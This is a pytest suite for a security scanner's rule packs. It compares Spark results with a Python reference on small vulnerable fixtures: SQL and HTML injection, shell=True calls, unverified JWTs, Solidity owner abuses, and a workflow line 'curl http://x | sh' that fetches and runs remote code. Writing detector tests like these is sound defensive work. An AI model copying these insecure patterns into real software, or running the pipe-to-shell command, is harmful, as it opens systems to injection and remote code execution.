"""All rule packs against Python's expressions and a plain reading of their guards; every rule is met by its example and by no near miss of it."""

import re

import pytest
from pyspark.sql import functions as F

from auditloom.operators.packs import code_only, scan_packs
from auditloom.plans import samples, web_queries
from auditloom.plans.web_packs import WEB_PACKS

SCHEMA = "file_path string, content string"
ALL = web_queries.ALL


def search(pattern, text):
    return re.search(pattern, text, re.M)


def masked(text):
    """C-like text with comments and strings blanked, character by character."""
    out, i, n = list(text), 0, len(text)
    while i < n:
        if text.startswith("//", i):
            j = text.find("\n", i)
            j = n if j < 0 else j
        elif text.startswith("/*", i):
            j = text.find("*/", i + 2)
            j = n if j < 0 else j + 2
        elif text[i] in "\"'":
            j = i + 1
            while j < n and text[j] != text[i]:
                j += 2 if text[j] == "\\" else 1
            j = min(j + 1, n)
        else:
            i += 1
            continue
        for k in range(i, j):
            if out[k] != "\n":
                out[k] = " "
        i = j
    return "".join(out)


def judged(p, rule, lines, text, line, match):
    for g in p.guards:
        own = lines[line - 1] if line <= len(lines) else ""
        around = "\n".join(lines[max(0, line - 1 - g.near[0]) : line + g.near[1]])
        ok = (not g.titles or rule.title in g.titles) and (not g.severities or rule.severity in g.severities)
        ok = ok and all(bool(search(x, seen)) == wanted for x, seen, wanted in ((g.line, own, True), (g.match, match, True), (g.has, around, True), (g.lacks, around, False), (g.file, text, True), (g.no_file, text, False)) if x)
        if ok and g.parameter:
            found = search(g.parameter, own)
            heads = [m for m in (re.search(r"def\s+\w+\s*\(([^)]*)\)", x) for x in reversed(lines[max(0, line - 61) : line - 1])) if m]
            ok = bool(found and heads and found.group(1) in re.findall(r"[a-zA-Z_]\w*", heads[0].group(1)))
        if ok:
            return g.to.get(rule.severity, rule.severity) if isinstance(g.to, dict) else g.to
    return rule.severity


def brute(path, content, packs=ALL):
    out, ext = [], path[path.rfind(".") :].lower()
    for p in packs:
        taken = ext in p.extensions if p.extensions else search(p.path, path)
        if not content or not taken or (p.excluded and search(p.excluded, path)):
            continue
        if p.file and not (search(p.file, content) or (p.named and search(p.named, path))):
            continue
        text = masked(content) if p.code else content
        lines, hits = content.split("\n"), []
        for r in p.rules:
            seen = len(hits)
            for m in re.finditer(r.pattern, text, re.M):
                if p.once and len(hits) > seen:
                    break
                line = text[: m.start()].count("\n") + 1
                severity = judged(p, r, lines, text, line, m.group())
                if severity:
                    hits.append((r.rule_id, r.title, severity, line, m.group()))
        if p.many and len(hits) >= p.most:
            hits.append((p.many.rule_id, p.many.title, p.many.severity, 1, f"({len(hits)} patterns)"))
        out += hits + [(r.rule_id, r.title, r.severity, 1, "") for r in p.required if not search(r.pattern, text)]
    return sorted(out)


def found(spark, files, packs=ALL):
    got = {}
    for r in scan_packs(spark.createDataFrame(files, SCHEMA), packs).collect():
        got.setdefault(r.file_path, []).append((r.rule_id, r.title, r.severity, r.line_number, r.match))
    return {k: sorted(v) for k, v in got.items()}


def test_every_rule_is_met_and_missed(spark):
    files = [(f"src/{k}{tail}", code + "\n") for k, (tail, code) in enumerate(web_queries.samples())]
    got = found(spark, files)
    assert got == {path: hits for path, content in files if (hits := brute(path, content))}
    met = {(r[0], r[1]) for hits in got.values() for r in hits}
    assert not [(p.name, r.rule_id, r.title) for p in ALL for r in p.rules if (r.rule_id, r.title) not in met]
    for p in ALL:
        for r in p.rules:
            text = samples.example(r.pattern)
            assert search(r.pattern, text) and not search(r.pattern, samples.miss(r.pattern, text))


CASES = [
    ("a.py", "def page(name):\n    x = 1\n    return f'<div>{name}</div>'\n"), ("b.py", "name = 1\nhtml = f'<b>{name}'\n"), ("c.py", "q = request.args['q']\nhtml = f\"<b>{q}\"\n"), ("d.py", "x = html.escape(q)\nhtml = f\"<b>{q}\"\ny = f\"<script>{q}\"\n"),
    ("e.js", "el.innerHTML = 'static'\nel.innerHTML = '<b>' + x\n// el.innerHTML = y\nel.outerHTML = `${x}`\nsetTimeout('run()', 1)\nsetTimeout('a' + b)\n"), ("f.py", "render_template_string(TEMPLATE)\nrender_template_string(user)\nrender_template_string('plain')\nenv.from_string(source)\n"),
    ("g.py", "redirect(request.path)\nredirect(request.args['n'])\nu = request.args.get('next')\nif is_safe_url(u): pass\n\n\n\n\nv = request.args.get('next')\n"), ("h.py", "urlparse(x)\n\n\n\n\n\n\n\nurlparse(y)\nredirect(z)\n"),
    ("i.py", "if os.path.exists(p):\n    f = open(p)\n"), ("j.py", "try:\n    if os.path.exists(p):\n        f = open(p)\n"), ("k.py", "# tempfile.mktemp()\ntempfile.mktemp()\na.save()\nb.save()\n"),
    ("l.py", "import jwt\njwt.decode(t)\nSECRET_KEY = 'abc'\nJWT_SECRET = 'placeholder-x'\n"), ("m.py", "jwt.decode(t, verify=False)\nSECRET_KEY = 'abc'\n"), ("n.yml", "graphql: 1\nmaxDepth: 10\nmaxDepth: 11\nintrospection: true\n"), ("o.yml", "introspection: true\n"), ("apollo.yml", "introspection: true\n"),
    ("p.sol", "contract C {\n// tx.origin\nstring s = \"tx.origin\";\nrequire(tx.origin == o);\nfunction f() onlyOwner {\nselfdestruct(o);\n}\n"), ("q.sol", "x.call{value: 1}('');\n/* y.send(1)\n*/ y.send(1); unchecked { a; }\nselfdestruct(o); char c = '\\'';\nz.delegatecall(d)"), ("r.sol", "string s = \"open\n tx.origin"),
    ("s.py", "cur.execute(f\"SELECT {x}\")\nq = request.args['q']\ncur.execute(f\"SELECT {q}\")\nq = sanitize(q)\ncur.execute(f\"SELECT {q}\")\n"), ("t.py", "execute('a' + b)\nexecute('SELECT ' + b)\nexecute('SELECT ' + b) # nosec\nPRAGMA = execute('SELECT' + x)\n"), ("migrations/u.py", "execute('SELECT ' + b)\n"),
    ("v.py", "subprocess.run('ls', shell=True)\nsubprocess.run(c, shell=True)\nos.popen('ls')\nos.popen(c) # gsc:ignore\nos.popen(c)\n"), ("tests/w.py", "os.popen(c)\n"), ("x/package.json", "{\"preinstall\": \"node x\", \"a-utils-b\": \"^1\"}"), ("x/utils.js", "process.env.TOKEN; process.env.CI"), ("x/app.js", "process.env.TOKEN"),
    ("ii.sol", "// setFee(1)\nfunction mint(uint a) public {\n  x;\n}\nfunction mintTo(uint a) external {\n  require(msg.sender == o);\n}\nsetFee(1); setTax(2); blacklist[a]; toggleTrading();\n"), ("jj.sol", "function mint() public onlyOwner {\n}\n"),
    ("kk.tf", "acl = \"public-read\"\ncidr_blocks = [\"0.0.0.0/0\"]\npassword = \"short\"\nbucket = \"b\"\n"), ("ll.yml", "---\n- hosts: all\n  become: yes\n  vars:\n    password: \"hunter2secret\"\n"), ("mm.yml", "---\nbecome: yes\ntags: [a]\n"), ("nn.yml", "apiVersion: v1\nkind: Pod\nbecome: yes\n"), ("oo.yaml", "password: \"hunter2secret\"\n"),
    (".github/workflows/y.yml", "on: pull_request_target\nrun: |\n  curl http://x | sh\n- uses: actions/checkout@v4\n"), ("z.rb", "URI.open(x)\n# URI.open(x)\n"), ("empty.py", ""), ("crlf.js", "document.write(x)\r\nel.innerHTML = y\r\n"),
]


def test_guards_equal_python(spark):
    assert found(spark, [*CASES, ("null.py", None), (None, "os.popen(c)")]) == {path: hits for path, content in CASES if (hits := brute(path, content))}


@pytest.mark.parametrize(("path", "rule", "severities"), [("a.py", "GS020", ["MEDIUM"]), ("b.py", "GS020", []), ("c.py", "GS020", ["HIGH"]), ("i.py", "GS023", ["HIGH"]), ("j.py", "GS023", []), ("m.py", "GS011", ["HIGH", "MEDIUM"]), ("o.yml", "GS013", []), ("apollo.yml", "GS013", ["HIGH"]), ("p.sol", "GS042", ["HIGH"]), ("r.sol", "GS042", []), ("ii.sol", "GS043", ["HIGH", "HIGH", "MEDIUM"]), ("jj.sol", "GS043", []), ("nn.yml", "GS031-ANSIBLE-ROOT", []), ("ll.yml", "GS031-ANSIBLE-VAULT", ["CRITICAL"]), ("v.py", "GS004", ["HIGH", "HIGH", "MEDIUM", "MEDIUM"])])
def test_published_outcomes(path, rule, severities):
    assert sorted(h[2] for h in brute(path, dict(CASES)[path]) if h[0] == rule) == severities


def test_locations_and_ids(spark):
    hits = scan_packs(spark.createDataFrame(CASES, SCHEMA), [p for p in WEB_PACKS if p.name.startswith("sql-")])
    got = {(r.file_path, r.line_number): (r.title, r.severity, r.pattern_ids) for r in web_queries.locations(hits).collect()}
    assert got[("s.py", 1)] == ("SQL f-string injection in execute() [no user input — verify]", "MEDIUM", ["GS005-FSTR-PY-001"])
    assert got[("s.py", 3)][1] == "CRITICAL" and got[("s.py", 5)][:2] == ("SQL f-string injection in execute() [sanitized — verify manually]", "LOW")
    assert ("t.py", 1) in got and ("t.py", 2) in got and ("t.py", 3) not in got and ("t.py", 4) not in got and not any(p.startswith("migrations") for p, _ in got)


def test_code_mask(spark):
    texts = ["a // b\nc", "'x\\'y' z", '"open', "/* a\n b */ c", "/* open", "a / b * c", "\"\\", "''\"\"//", "x'\n'y", ""]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").select("t", code_only(F.col("t")).alias("m")).collect()
    assert {r.t: r.m for r in rows} == {t: masked(t) for t in texts}
